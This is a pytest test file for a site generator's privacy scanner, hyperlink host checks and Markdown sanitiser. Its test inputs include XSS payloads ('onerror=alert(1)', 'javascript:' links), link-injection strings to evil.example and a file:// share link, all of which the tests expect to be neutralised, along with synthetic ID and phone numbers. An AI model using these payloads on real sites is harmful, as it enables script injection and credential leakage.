    assert _kinds("d.pdf", pdf) == ["email"]


def test_every_hyperlink_of_an_attachment_is_handed_over_for_the_host_check(tmp_path):
    """Hyperlinks in attachments were kept whatever their host or scheme: a tracking
    address, or a file:// or \\\\server link that hands the reader's Windows login over."""
    from generator import attachments, privacy, sanitize
    from generator.audit import Policy, audit

    word = _docx(body=(
        '<w:p><w:hyperlink r:id="rIdH"><w:r><w:t>详见</w:t></w:r></w:hyperlink></w:p>'
        '<w:p><w:r><w:pict><v:shape xmlns:v="urn:schemas-microsoft-com:vml" id="s1" '
        'href="https://tracker.example.net/v"/></w:pict></w:r></w:p>'
        + _field(' HYPERLINK "file://///share.example.net/s/x.docx" \\o "提示" ')
        + _field(' HYPERLINK \\l "书签" ')), added={"word/_rels/document.xml.rels": _rel(
            "rIdH", "hyperlink", "https://tracker.example.net/r")})
    book = _xlsx(("A1", "x"), ("A2", "详见"), ("A4", '=IF(1,HYPERLINK("https://a.example.net/",'
                                                   '"a"),HYPERLINK("https://www.example.gov.cn/","b"))'),
                 setup=lambda b: setattr(b.active["A2"], "hyperlink", "https://c.example.net/"))
    pdf = _raw_pdf(b"/Outlines 4 0 R", _link(b"<</S/URI/URI(https://p.example.net/)>>"),
                   b"<</First 5 0 R/Last 5 0 R/Count 1>>",
                   b"<</Title(x)/Parent 4 0 R/A<</S/URI/URI(https://o.example.net/)>>>>")
    found = {}
    for name, data in (("a.docx", word), ("b.xlsx", book), ("c.pdf", pdf)):
        links = []
        extract_text(name, data, links)
        found[name] = sorted((link.line, link.url) for link in links)
    assert found == {
        "a.docx": [(2, "https://tracker.example.net/r"), (3, "https://tracker.example.net/v"),
                   (4, "file://///share.example.net/s/x.docx")],
        "b.xlsx": [(2, "https://c.example.net/"), (4, "https://a.example.net/"),
                   (4, "https://www.example.gov.cn/")],
        "c.pdf": [(1, "https://o.example.net/"), (1, "https://p.example.net/")]}
    (tmp_path / "files").mkdir()
    (tmp_path / "files/a.docx").write_bytes(word)
    links = sanitize.Links("https://zhuanxiang.example.gov.cn/", {"example.gov.cn"})
    assert sorted((p.line, p.code) for p in attachments.check_file(
        tmp_path, "files/a.docx", privacy.Scanner(), None, links)) == [
        (2, "unlisted-host"), (3, "unlisted-host"), (4, "attachment-link-scheme")]
    site = tmp_path / "site"
    site.mkdir()
    (site / "b.xlsx").write_bytes(book)
    assert [(p.path, p.line, p.code) for p in audit(site, Policy(privacy.Scanner(), links))] == [
        ("site/b.xlsx!名单", 2, "audit-third-party"), ("site/b.xlsx!名单", 4, "audit-third-party")]


def test_an_unlisted_host_is_said_once_a_line_however_often_it_is_linked_there(tmp_path):
    """A PDF's page 1 linking to a host by an annotation and by a bookmark gave two
    unlisted-host at page 1 for the one host (the places differ); one line and host is
    one problem, and each other host on it its own. A Markdown line linking a host in
    three ways is one problem too."""
    from generator import attachments, privacy
    from generator.checks import validate

    pdf = _raw_pdf(b"/Outlines 4 0 R", _link(b"<</S/URI/URI(https://p.example.net/a)>>"),
                   b"<</First 5 0 R/Last 5 0 R/Count 2>>",
                   b"<</Title(x)/Parent 4 0 R/Next 6 0 R/A<</S/URI/URI(https://p.example.net/b)>>>>",
                   b"<</Title(y)/Parent 4 0 R/Prev 5 0 R/A<</S/URI/URI(https://q.example.net/)>>>>")
    (tmp_path / "files").mkdir()
    (tmp_path / "files/c.pdf").write_bytes(pdf)
    links = sanitize.Links("https://zhuanxiang.example.gov.cn/", {"example.gov.cn"})
    found = attachments.check_file(tmp_path, "files/c.pdf", privacy.Scanner(), None, links)
    assert sorted((p.line, p.code, p.message.split("指向 ")[1].split("，")[0]) for p in found) == [
        (1, "unlisted-host", "p.example.net"), (1, "unlisted-host", "q.example.net")]
    project = make_project(tmp_path / "c")
    notice = project / "content/notices/2026-05-notice.md"
    notice.write_text(notice.read_text("utf-8") + "\n见[甲](https://evil.example/a)、"
                      "<https://EVIL.example./b>和<a href=\"//evil.example:443/c\">丙</a>\n", "utf-8")
    _data, report = validate(project, NOW)
    assert report.flatten() == [("content/notices/2026-05-notice.md", 24, "unlisted-host")]


def test_a_table_attachment_with_dashes_and_phone_prefixes_is_not_taken_for_formulas():
    table = "单位,说明,变化\n甲,-,-5%\n乙,+86 010 1234 5678,-2\n".encode()
    assert [p.line for p in extract_text("名单.csv", table)] == [1, 2, 3]


def test_a_workbook_embedded_in_a_document_is_read_as_an_attachment():
    """The data of a chart in a Word file is a workbook inside it: scanned, not refused."""
    from openpyxl import Workbook

    book = Workbook()
    book.active["A1"] = SECRET
    buffer = io.BytesIO()
    book.save(buffer)
    word = _docx(added={"word/embeddings/Microsoft_Excel_Worksheet.xlsx": buffer.getvalue()})
    assert _kinds("a.docx", word) == ["id", "phone"]


# ------------------------------------------------------------------- history, bulletin

def _git(repo, *args):
    env = {"GIT_AUTHOR_NAME": "x", "GIT_AUTHOR_EMAIL": "x@example.gov.cn", "HOME": str(repo),
           "GIT_COMMITTER_NAME": "x", "GIT_COMMITTER_EMAIL": "x@example.gov.cn", "PATH": "/usr/bin:/bin"}
    subprocess.run(["git", "-C", str(repo), *args], check=True, env=env, capture_output=True)


def test_commit_subjects_in_hidden_forms_are_withheld(tmp_path):
    repo = make_project(tmp_path / "c")
    _git(repo, "init", "-q", "-b", "main")
    _git(repo, "add", "-A")
    _git(repo, "commit", "-q", "-m", "联系 138\u00ad1234\u00ad5678 补录")
    case = repo / "data/cases/2026-001.yml"
    case.write_text(case.read_text("utf-8") + "batch: 2\n", "utf-8")
    _git(repo, "commit", "-q", "-am", "来电 139-22345678 要求更正")
    page = build(repo, NOW).pages["cases/2026-001.md"]
    assert "补录" not in page and "22345678" not in page and "1234" not in page.split("记录历史")[-1]


def test_bulletin_drafts_print_record_titles_as_text(tmp_path):
    from generator.bulletin import draft

    project = make_project(tmp_path / "c")
    case = project / "data/cases/2026-001.yml"
    case.write_text(case.read_text("utf-8").replace(
        "title: 东城镇办事员张某某推诿扯皮问题",
        "title: '问题<!--><img src=x onerror=alert(1)>--> [点我](javascript:alert(1))'"), "utf-8")
    data, report = validate(project, NOW)
    assert report.valid, report.flatten()
    text = draft(data, "2026-05")
    assert ("1. [问题&lt;\\!--&gt;&lt;img src=x onerror=alert\\(1\\)&gt;--&gt; "
            "\\[点我\\]\\(javascript:alert\\(1\\)\\)](../cases/2026-001.md)（2026年5月10日）") in text
    html = sanitize.markdown_html(text.split("---\n", 2)[2])
    assert sanitize.removed(html) == []
    # The title makes no element: the links are the bulletin's own, to the case and units.
    found = [e for e in sanitize.elements(html) if e[0] in ("img", "a", "#comment")]
    assert {e[0] for e in found} == {"a"}
    assert {href for _tag, attrs in found for _key, href in attrs} == {
        "../cases/2026-001.md", "../units/XW01.md", "../units/XX01.md"}


def test_demo_project_is_clean():
    _data, report = validate(ROOT)
    assert report.flatten() == []


def test_the_sanitiser_reads_markdown_with_the_engines_extensions():
    import markdown
    import mkdocs.config

    # mkdocs adds its built-ins (toc, tables, fenced_code) to those of mkdocs.yml
    engine = mkdocs.config.load_config(str(ROOT / "mkdocs.yml"))
    sanitize.engine_markdown(engine)  # as the hook does: the theme's ids are never a heading's
    assert sorted(engine["markdown_extensions"]) == sorted(sanitize.MARKDOWN_EXTENSIONS)
    assert engine["mdx_configs"] == sanitize.MARKDOWN_CONFIGS
    body = ("## 一、总体要求\n\n```\n代码\n```\n\n!!! note inline \"提示\"\n    内容\n\n"
            "| 甲 | 乙 |\n| --- | --- |\n| 1 | 2 |\n\n<details><summary>展开</summary>说明</details>")
    converted = markdown.Markdown(extensions=engine["markdown_extensions"],
                                  extension_configs=engine["mdx_configs"]).convert(body)
    assert sanitize.markdown_html(body) == converted
    assert sanitize.removed(converted) == []  # what notices are written with stays


def test_the_export_lists_every_extension_the_mkdocs_build_converts_with():
    """`generator export` is built by an engine that reads markdown_extensions as written,
    while mkdocs adds its built-ins (toc, tables, fenced_code): the exported list names
    each extension the mkdocs build uses, configured alike, or a ``` block in a notice is
    a paragraph of text on the exported site."""
    import mkdocs.config
    import yaml

    engine = mkdocs.config.load_config(str(ROOT / "mkdocs.yml"))
    sanitize.engine_markdown(engine)
    listed = yaml.safe_load((ROOT / "mkdocs.yml").read_text("utf-8"))["markdown_extensions"]
    exported = {}
    for entry in sanitize.exported_markdown(listed):
        name, settings = next(iter(entry.items())) if isinstance(entry, dict) else (entry, {})
        assert name not in exported, name  # each once
        exported[name] = settings
    assert sorted(exported) == sorted(engine["markdown_extensions"])
    assert "fenced_code" in exported and "tables" in exported
    for name, settings in exported.items():
        built = dict(engine["mdx_configs"].get(name, {}))
        if name == "toc":
            assert settings.pop("slugify") == "generator.sanitize.slugify"
            assert built.pop("slugify") is sanitize.slugify
        assert settings == built, name


def test_code_keeps_its_tags_where_a_reading_takes_tags_out():
    """Code shows 138<span>1234</span>5678 as written; a page's summary (its meta
    description) took the tags out of it too and printed 138 1234 5678, a mobile number
    the audit refused in the built page while check, reading the code as written,
    passed it. Tags outside code still go."""
    from generator.render import _summary

    body = ("示例：\n\n    138<span>1234</span>5678\n    &#49;3812345678\n\n"
            "```\n<b>甲</b>\n```\n\n行内 `a<b>c` 与 <b>粗</b>，139<span>1234</span>5678")
    assert sanitize.code_as_written(body, "\0") == body.replace(
        "    138<span>", "    138\0span>").replace("</span>5678\n    &", "\0/span>5678\n    &") \
        .replace("```\n<b>甲</b>", "```\n\0b>甲\0/b>").replace("`a<b>c`", "`a\0b>c`")
    # (the fences themselves are no words: a page's summary leaves them out)
    assert _summary(body) == ("示例：138<span>1234</span>5678 &#49;3812345678 <b>甲</b>"
                              "\u3000行内 a<b>c 与 粗 ，139 1234 5678")


@pytest.mark.parametrize("body, summary", [
    ("甲<!-->乙", "甲 乙"), ("甲<!--->乙", "甲 乙"), ("甲<!-- 注 --!>乙", "甲 乙"),
    ("甲<!-- 注 -->乙<!-- 注 -->丙", "甲 乙 丙"), ("甲<!-- 未闭合 乙", "甲"),
    ("[[甲](x.md)", "[甲"), ("见[甲](a.md)和[乙](b.md)", "见甲和乙"),
    ("<!--" * 3 + "甲", ""), ("[" * 3 + "甲", "[[[甲"), ("<a" * 3 + "甲>乙", "<a<a 乙"),
])
def test_a_summary_reads_comments_and_links_as_the_browser_does(body, summary):
    """A comment ends at the first --> (or --!>; <!--> and <!---> are whole), one left
    open runs to the end, as in the browser; a link's text is kept. Each is found in one
    pass (a regex looking for the end again from each of 40,000 unclosed <!-- took a
    minute to summarise one notice)."""
    from generator.render import _summary

    assert _summary(body) == summary


def _kinds(name: str, data: bytes) -> list[str]:
    """The kinds of personal data found in what a reader can find in a file."""
    from generator.privacy import Scanner

    scanner = Scanner()
    return sorted({hit.kind for passage in extract_text(name, data)
                   for hit in scanner.hits(passage.text)})


SECRET = "身份证 110105199003071239 手机 13912345678"


def test_what_a_document_hides_from_the_page_is_read_too():
    """Deleted text kept by track changes, document properties, cell comments, PDF
    notes and properties, photo descriptions: a reader of the file finds them, so the
    scan does. A photo that records where it was taken, and a PDF carrying another
    file, are refused."""
    import zipfile

    import docx
    from openpyxl import Workbook
    from openpyxl.comments import Comment
    from PIL import Image
    from pypdf import PdfWriter
    from pypdf.annotations import Text

    document = docx.Document()
    document.add_paragraph("正文")
    buffer = io.BytesIO()
    document.save(buffer)
    with zipfile.ZipFile(io.BytesIO(buffer.getvalue())) as package:
        parts = {n: package.read(n) for n in package.namelist()}
    parts["word/document.xml"] = parts["word/document.xml"].replace(
        "<w:t>正文</w:t></w:r>".encode(),
        f'<w:t>正文</w:t></w:r><w:del w:id="1" w:author="x"><w:r><w:delText>{SECRET}'
        f"</w:delText></w:r></w:del>".encode())
    tracked = io.BytesIO()
    with zipfile.ZipFile(tracked, "w") as package:
        for name, part in parts.items():
            package.writestr(name, part)
    assert _kinds("a.docx", tracked.getvalue()) == ["id", "phone"]
    document.core_properties.keywords = SECRET
    buffer = io.BytesIO()
    document.save(buffer)
    assert _kinds("b.docx", buffer.getvalue()) == ["id", "phone"]

    book = Workbook()
    book.active["A1"] = "名单"
    book.active["A1"].comment = Comment(SECRET, "某人")
    buffer = io.BytesIO()
    book.save(buffer)
    assert _kinds("c.xlsx", buffer.getvalue()) == ["id", "phone"]

    writer = PdfWriter()
    writer.add_blank_page(100, 100)
    writer.add_annotation(page_number=0, annotation=Text(text=SECRET, rect=(0, 0, 10, 10)))
    buffer = io.BytesIO()
    writer.write(buffer)
    assert _kinds("d.pdf", buffer.getvalue()) == ["id", "phone"]
    writer = PdfWriter()
    writer.add_blank_page(100, 100)
    writer.add_metadata({"/Subject": SECRET})
    buffer = io.BytesIO()
    writer.write(buffer)
    assert _kinds("e.pdf", buffer.getvalue()) == ["id", "phone"]
    writer.add_attachment("名单.txt", SECRET.encode())
    buffer = io.BytesIO()
    writer.write(buffer)
    with pytest.raises(Refused, match="嵌有"):
        extract_text("f.pdf", buffer.getvalue())

    photo = Image.new("RGB", (4, 4))
    exif = Image.Exif()
    exif[0x010E] = "ID 110105199003071239 TEL 13912345678"  # ImageDescription
    buffer = io.BytesIO()
    photo.save(buffer, "JPEG", exif=exif)
    assert _kinds("g.jpg", buffer.getvalue()) == ["id", "phone"]
    located = Image.Exif()
    located[0x8825] = {1: "N", 2: (30.0, 1.0, 2.0)}  # GPSInfo
    buffer = io.BytesIO()
    photo.save(buffer, "JPEG", exif=located)
    with pytest.raises(Refused, match="GPS"):
        extract_text("h.jpg", buffer.getvalue())
    buffer = io.BytesIO()
    photo.save(buffer, "PNG")
    assert extract_text("i.png", buffer.getvalue()) == []


_WML = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
_WP = 'xmlns:wp="http://schemas.openxmlformats.org/drawingml/2006/wordprocessingDrawing"'


def _photo(exif: dict) -> bytes:
    from PIL import Image

    tags = Image.Exif()
    for tag, value in exif.items():
        tags[tag] = value
    buffer = io.BytesIO()
    Image.new("RGB", (4, 4)).save(buffer, "JPEG", exif=tags)
    return buffer.getvalue()


def _book(make) -> bytes:
    from openpyxl import Workbook

    book = Workbook()
    book.active["A1"], book.active["A2"], book.active["A3"] = "名单", 1, 2
    make(book, book.active)
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()


def _chart(book, sheet) -> None:
    from openpyxl.chart import BarChart, Reference

    chart = BarChart()
    chart.title, chart.x_axis.title = "手机 13912345678", "身份证 110105199003071239"
    chart.add_data(Reference(sheet, min_col=1, min_row=2, max_row=3))
    sheet.add_chart(chart, "C1")


def _defined_name(book, _sheet) -> None:
    from openpyxl.workbook.defined_name import DefinedName

    book.defined_names["电话13912345678"] = DefinedName("电话13912345678", attr_text="Sheet!$A$1")


def _cell_link(_book, sheet) -> None:
    sheet["B1"] = "点此"
    sheet["B1"].hyperlink = "https://www.example.gov.cn/?tel=13912345678"


PART = f'<w:p><w:r><w:t>{SECRET}</w:t></w:r></w:p>'
PACKAGE_PARTS = [
    # every part of a Word file a reader can open: notes, comments, headers, text boxes,
    # a picture's alt text and title, custom properties (read as XML parts already)
    ("footnotes", lambda: _docx(added={"word/footnotes.xml": f'<w:footnotes {_WML}><w:footnote '
                                       f'w:id="1">{PART}</w:footnote></w:footnotes>'})),
    ("endnotes", lambda: _docx(added={"word/endnotes.xml": f'<w:endnotes {_WML}><w:endnote '
                                      f'w:id="1">{PART}</w:endnote></w:endnotes>'})),
    ("comments", lambda: _docx(added={"word/comments.xml": f'<w:comments {_WML}><w:comment '
                                      f'w:id="1" w:author="x">{PART}</w:comment></w:comments>'})),
    ("header", lambda: _docx(added={"word/header1.xml": f"<w:hdr {_WML}>{PART}</w:hdr>"})),
    ("footer", lambda: _docx(added={"word/footer1.xml": f"<w:ftr {_WML}>{PART}</w:ftr>"})),
    ("text box", lambda: _docx(body='<w:p><w:r><w:pict><v:shape xmlns:v="urn:schemas-microsoft-'
                                    f'com:vml"><v:textbox><w:txbxContent>{PART}</w:txbxContent>'
                                    "</v:textbox></v:shape></w:pict></w:r></w:p>")),
    ("alt text", lambda: _docx(body=f'<w:p><w:r><w:drawing><wp:inline {_WP}><wp:docPr id="1" '
                                    f'name="p" descr="{SECRET}"/></wp:inline></w:drawing></w:r></w:p>')),
    ("image title", lambda: _docx(body=f'<w:p><w:r><w:drawing><wp:inline {_WP}><wp:docPr id="1" '
                                       'name="p" title="110105199003071239 13912345678"/>'
                                       "</wp:inline></w:drawing></w:r></w:p>")),
    ("custom property", lambda: _docx(added={"docProps/custom.xml": (
        '<Properties xmlns="http://schemas.openxmlformats.org/officeDocument/2006/custom-properties"'
        ' xmlns:vt="http://schemas.openxmlformats.org/officeDocument/2006/docPropsVTypes">'
        '<property fmtid="{D5CDD505-2E9C-101B-9397-08002B2CF9AE}" pid="2" name="x">'
        f"<vt:lpwstr>{SECRET}</vt:lpwstr></property></Properties>")})),
    # an Excel file's chart and axis titles, defined names, hyperlink targets
    ("chart titles", lambda: _book(_chart)),
    ("defined name", lambda: _book(_defined_name)),
    ("hyperlink target", lambda: _book(_cell_link)),
    # what was not read: the names of a package's members, a member that is text but
    # not XML, a picture's EXIF in a Word or an Excel file (a photo pasted in keeps it)
    ("member name", lambda: _docx(added={"word/media/张三110105199003071239_13912345678.png": b"x"})),
    ("text member", lambda: _docx(added={"word/note.txt": "说明\n" + SECRET})),
    ("photo in a docx", lambda: _docx(added={"word/media/image9.jpeg": _photo({0x010E: SECRET})})),
    ("photo in an xlsx", lambda: _package(_book(lambda b, s: None), (), {
        "xl/media/image9.jpeg": _photo({0x013B: SECRET})})),
]


@pytest.mark.parametrize("part, make", PACKAGE_PARTS, ids=[p for p, _ in PACKAGE_PARTS])
def test_every_text_part_of_a_package_is_read(part, make):
    """A Word or Excel file is a zip: whoever unpacks it reads every member's name, every
    text member and the EXIF of its pictures, as well as the XML parts. The names, a
    note.txt in it and a pasted photo's description were published unread."""
    data = make()
    name = "b.xlsx" if data[:4] == b"PK\x03\x04" and b"xl/workbook.xml" in data else "a.docx"
    expected = ["phone"] if part in ("defined name", "hyperlink target") else ["id", "phone"]
    assert _kinds(name, data) == expected


def test_a_photo_in_a_word_file_that_records_where_it_was_taken_is_refused():
    """A photo pasted into a Word file keeps its GPS: refused as a photo attachment is,
    the member named."""
    word = _docx(added={"word/media/image9.jpeg": _photo({0x8825: {1: "N", 2: (30.0, 1.0, 2.0)}})})
    with pytest.raises(Refused, match="word/media/image9.jpeg：.*GPS"):
        extract_text("a.docx", word)
    assert _kinds("b.docx", _docx(added={"word/media/image9.jpeg": _photo({})})) == []


def test_the_own_assets_manifest_lists_the_repository_scripts_and_stylesheets():
    """Staff commit under content/; a script or stylesheet there was published without a
    look (a clerk's account could add a line to tables.js). Each is now held to its
    digest in generator/own_assets.sha256; after a reviewed change, update it with
    `sha256sum` as this test prints it."""
    import hashlib

    from generator.attachments import own_assets

    kinds = (".js", ".css")
    notices = {"LICENCE", "LICENSE", "README", "COPYING", "NOTICE"}
    found = {p.relative_to(ROOT).as_posix(): hashlib.sha256(p.read_bytes()).hexdigest()
             for p in sorted((ROOT / "content/assets").rglob("*"))
             if p.is_file() and (p.suffix in kinds or p.name in notices)}
    assert own_assets() == found, "\n".join(f"{d}  {p}" for p, d in sorted(found.items()))


def test_a_channel_address_cannot_open_a_second_link(tmp_path):
    """A 网上平台 value "https://host/a)[点此举报](https://other/…" ended the link at its ")"
    and made a second one, to another host, worded as the reporting link."""
    from generator import sanitize

    project = make_project(tmp_path / "c")
    channels = project / "site_config/channels.yml"
    channels.write_text(channels.read_text("utf-8").replace(
        "value: https://jubao.yanshi-demo.example.gov.cn/",
        'value: "https://jubao.yanshi-demo.example.gov.cn/a)[点此举报](https://evil.example/x"'),
        "utf-8")
    site = build(project, NOW)
    hosts = set()
    for text in site.pages.values():
        if "jubao" in text:
            for _tag, attrs in sanitize.elements(sanitize.markdown_html(text)):
                hosts |= {sanitize.Links().resolve(v).hostname for k, v in attrs
                          if k == "href" and v.startswith("http")}
    assert hosts == {"jubao.yanshi-demo.example.gov.cn"}


def test_a_channel_allows_its_address_not_its_host():
    """A 网上平台 channel is allowed as its address (and under it when that is a folder),
    for check, the page and the audit alike; the rest of its host is not."""
    from generator import sanitize

    links = sanitize.Links("https://zhuanxiang.example.gov.cn/", {"zhuanxiang.example.gov.cn"},
                           ("https://www.wjx.example.com/vm/jubao.aspx",
                            "https://jubao.example.org/app/"))
    allowed = ["https://www.wjx.example.com/vm/jubao.aspx",
               "https://www.wjx.example.com/vm/jubao.aspx#a",
               "https://WWW.wjx.example.com/vm/jubao.aspx",
               "https://www.wjx.example.com:443/vm/jubao.aspx",
               "https://jubao.example.org/app/", "https://jubao.example.org/app/new?t=1"]
    refused = {"https://www.wjx.example.com/vm/other.aspx": "www.wjx.example.com",
               "https://www.wjx.example.com/vm/jubao.aspx?id=2": "www.wjx.example.com",
               "http://www.wjx.example.com/vm/jubao.aspx": "www.wjx.example.com",
               "https://www.wjx.example.com:8443/vm/jubao.aspx": "www.wjx.example.com",
               "https://x.www.wjx.example.com/vm/jubao.aspx": "x.www.wjx.example.com",
               "https://jubao.example.org/app": "jubao.example.org",
               "https://jubao.example.org/application/": "jubao.example.org",
               "https://jubao.example.org/app/../admin/": "jubao.example.org"}
    assert [u for u in allowed if links.third_party(u)] == []
    assert {u: links.third_party(u) for u in refused} == refused


@pytest.mark.parametrize("layout", ["definition-below-on-two-lines", "each-used-twice"])
def test_links_by_reference_are_placed_in_work_linear_in_the_body(layout, monkeypatch):
    """Where a link the engine makes from a reference definition written in another block
    is named was found by halving the body once per link: 10,000 links by reference
    converted the body about 10,000 x 14 times (hours). Each block is now converted a
    bounded number of times: the characters handed to the converter and to the HTML
    parser stay within a fixed multiple of the body, at 200 links as at 800, and each
    link is named at the definition that completes it, as before."""
    import markdown as markdown_module

    def body(count: int) -> str:
        if layout == "each-used-twice":
            uses = "\n\n".join(f"见[甲][{i}]和[乙][{i}]" for i in range(count))
            defs = "\n\n".join(f"[{i}]: https://example.gov.cn/{i}" for i in range(count))
        else:
            uses = "\n\n".join(f"见[甲][{i}]" for i in range(count))
            defs = "\n\n".join(f"[{i}]:\n    https://example.gov.cn/{i}" for i in range(count))
        return uses + "\n\n" + defs + "\n"

    work = []
    real_convert, real_elements = markdown_module.Markdown.convert, sanitize.elements
    monkeypatch.setattr(markdown_module.Markdown, "convert",
                        lambda self, text: work.append(len(text)) or real_convert(self, text))
    monkeypatch.setattr(sanitize, "elements",
                        lambda html: work.append(len(html)) or real_elements(html))
    ratios = []
    for count in (200, 800):
        text = body(count)
        sanitize.markdown_html.cache_clear()
        work.clear()
        urls = sanitize.markdown_urls(text)
        ratios.append(sum(work) / len(text))
        assert ratios[-1] < 12
        at = {}
        for line, url in urls:
            at.setdefault(url, []).append(line)
        assert len(at) == count
        # block i (the uses) is on line 2*i, the definitions after them: each link is
        # named where its definition completes it (the one-line definition is named by
        # the line reading too)
        first = at["https://example.gov.cn/7"]
        if layout == "each-used-twice":
            assert first == [2 * count + 14] * 2
        else:
            assert first == [2 * count + 21]
    assert max(ratios) < 12
    assert ratios[1] < ratios[0] * 1.2


def test_fenced_code_is_found_as_the_engines_extension_finds_it():
    """check blanked a body's code by its own rule (an indented fence, a longer closing
    fence, a fence left open to the end all made code) while the engine reads a fence
    only at the margin, closed by the very same fence: what check took for code the page
    showed as text, raw HTML and character references included. The reading is compared
    with the extension's own pattern, run as the extension runs it."""

    from markdown.extensions.attr_list import get_attrs_and_remainder
    from markdown.extensions.fenced_code import FencedBlockPreprocessor

    pattern = FencedBlockPreprocessor.FENCED_BLOCK_RE

    def engine(lines):
        text, regions, index = "\n".join(lines) + "\n\n", [], 0
        while match := pattern.search(text, index):
            if match.group("attrs") and get_attrs_and_remainder(match.group("attrs"))[1]:
                index = match.end("attrs")
                continue
            regions.append((text.count("\n", 0, match.start()),
                            text.count("\n", 0, match.end())))
            index = match.end()
        return regions

    pieces = ["```", "````", "~~~", "``` ", "```py", "``` {.x}", "```{.x", "``` a b", "  ```",
              "x", "", "```\t", "~~~~ ", "```hl_lines=\"1\"", "``` {a}", "中文", "```中"]
    generator = random.Random(7)
    for _ in range(3000):
        lines = [generator.choice(pieces).expandtabs(4)
                 for _ in range(generator.randint(1, 10))]
        assert sanitize.fenced_code(lines)[0] == engine(lines), lines
    body = "```\n<img src=x onerror=alert(1)>\n````\n   ```\n&#x202E;\n"
    read = sanitize.read_markdown(body)
    assert (read.lines[1], read.lines[4]) == ("<img src=x onerror=alert(1)>", "&#x202E;")
    assert sanitize.unclosed_fences(body) == [(0, "```"), (2, "````")]


def test_a_fence_nothing_closes_is_never_handed_to_the_engine(monkeypatch):
    """The engine reads the rest of a body again from each fence nothing closes: 8,000
    such lines (48 kB) took it 20 s, a 2 MB body days. Such a body is refused
    (unclosed-code-fence) and the sanitiser's helpers never convert it."""
    import markdown as markdown_module

    converted = []
    real = markdown_module.Markdown.convert
    monkeypatch.setattr(markdown_module.Markdown, "convert",
                        lambda self, text: converted.append(len(text)) or real(self, text))
    body = "```a\n\n" * 4000
    sanitize.markdown_html.cache_clear()
    assert len(sanitize.unclosed_fences(body)) == 4000
    assert sanitize.removed_from_markdown(body) == []
    assert sanitize.markdown_urls(body) == []
    assert converted == []
    closed = "```a\n<b>x</b>\n```\n\n" * 3
    assert sanitize.unclosed_fences(closed) == [] and sanitize.dense_blocks(closed) == []
    # a quoted hl_lines="… the extension reads on past its line, to every later quote: 400
    # such lines took it a minute (the cube of their number); each is named, none converted
    quoted = '```hl_lines="\n' * 400
    assert [line for line, _fence in sanitize.unclosed_fences(quoted)] == list(range(400))
    assert sanitize.markdown_urls(quoted) == [] and converted == []
    assert sanitize.unclosed_fences('```hl_lines="1"\nx\n```\n') == []


def test_reference_definitions_count_as_the_engine_works_on_them(monkeypatch):
    """The engine's block parser takes each reference definition written over two lines in
    a pass of its own, reading the rest of its block again: 1,900 in one block took 80 s
    and no mark limit saw them (1,900 brackets). A definition counts DEFINITION_MARKS: a
    block may hold 20, and one of 21 is refused and never converted."""
    import markdown as markdown_module

    def block(count: int) -> str:
        return "\n".join(f"[{i}]:\n    https://example.gov.cn/{i}" for i in range(count))

    assert sanitize.dense_blocks(block(20)) == []
    assert sanitize.dense_blocks("说明\n\n" + block(21)) == [(2, 21 * sanitize.DEFINITION_MARKS)]
    converted = []
    real = markdown_module.Markdown.convert
    monkeypatch.setattr(markdown_module.Markdown, "convert",
                        lambda self, text: converted.append(len(text)) or real(self, text))
    sanitize.markdown_html.cache_clear()
    sanitize.markdown_html(block(1900))
    assert converted == []


def test_a_raw_html_url_is_read_with_its_backslashes():
    """The engine passes raw HTML as written: a backslash in an attribute is no Markdown
    escape, and the browser reads \\\\host\\path as //host/path (a link to another site);
    a Markdown link's target has its escapes undone, as the engine does."""
    raw = '<a href="\\\\evil.example\\x">a</a>\n\n[b](\\_x)\n'
    assert sanitize.markdown_urls(raw) == [(0, "\\\\evil.example\\x"), (2, "_x")]
    links = sanitize.Links(site_url="https://zhuanxiang.example.gov.cn/")
    assert [links.third_party(url) for _n, url in sanitize.markdown_urls(raw)] == \
        ["evil.example", ""]


def test_a_line_is_shown_as_code_only_where_the_engine_escapes_it():
    """An indented block after a blank line is code; an indented line inside a raw HTML
    block, or continuing a list item, is markup or text to the engine."""
    body = "正文\n\n    &#x202E;a\n\n<div>\n\n    &#x202E;b\n\n</div>\n\n- c\n\n    &#x202E;d\n"
    assert sanitize.shown_as_code(body, [2, 6, 12]) == {2}


# Bodies whose indented lines Python-Markdown reads as code or as text: a list item's
# or a box's text is indented four spaces, its code block four more (eight under an item,
# twelve under an item nested in one); a line indented less goes on the item's text.
NESTED_CODE = [
    "- c\n\n        &#x202E;d\n",
    "1. c\n\n        &#x202E;d\n",
    "- c\n\n\t\t&#x202E;d\n",
    "- c\n\n    &#x202E;d\n",
    "- c\n\n    p\n\n        &#x202E;d\n\n    q\n",
    "- c\n\n    - e\n\n            &#x202E;d\n\n        &#x202E;f\n",
    "- c\n    - e\n\n            &#x202E;d\n",
    "!!! note\n\n        &#x202E;d\n",
    "!!! note \"标题\"\n    正文\n\n        &#x202E;d\n",
    "- c\n\n        &#x202E;d\n        &#x202E;e\n\n        &#x202E;f\n\n    g\n",
    "- c\n\n正文\n\n        &#x202E;d\n",
    "- c\n        &#x202E;d\n",
    "正文\n\n    &#x202E;a\n\n- c\n\n    &#x202E;d\n",
    "- c\n\n    > q\n\n        &#x202E;d\n",
    "- c\n\n        &#x202E;d\n- e\n\n        &#x202E;f\n",
    "* c\n\n  * e\n\n        &#x202E;d\n",
    "- c\n\n    1. e\n\n        &#x202E;d\n\n            &#x202E;f\n",
    "    &#x202E;a\n    b\nc\n\n    &#x202E;d\n",
]


def _engine_shows_as_code(lines: list[str], number: int) -> bool:
    line = lines[number]
    indent = line[: len(line) - len(line.lstrip(" \t"))]
    changed = "\n".join(lines[:number] + [indent + "<cs-probe-q7>"] + lines[number + 1:])
    return "&lt;cs-probe-q7&gt;" in sanitize.markdown_html(changed)


@pytest.mark.parametrize("body", NESTED_CODE)
def test_code_lines_reads_indented_lines_as_the_engine_does(body):
    """code_lines read an indented block under a list item or a box as the item's text
    whatever its indent: eight spaces under an item are the engine's code block, shown
    as written, so a character reference there (&#x202E;) was refused as the character
    (control-character) though the page shows the six characters."""
    lines = body.split("\n")
    fenced = {n for first, last in sanitize.fenced_code(lines)[0]
              for n in range(first, last + 1)}
    read = sanitize.code_lines(lines)
    engine = [_engine_shows_as_code(lines, n) if lines[n].strip() and n not in fenced
              else read[n] for n in range(len(lines))]
    assert read == engine


def test_a_reference_in_code_under_a_list_item_is_shown_as_written():
    body = "- c\n\n        &#x202E;d\n\n- e\n\n    &#x202E;f\n"
    assert sanitize.shown_as_code(body, [2, 6]) == {2}


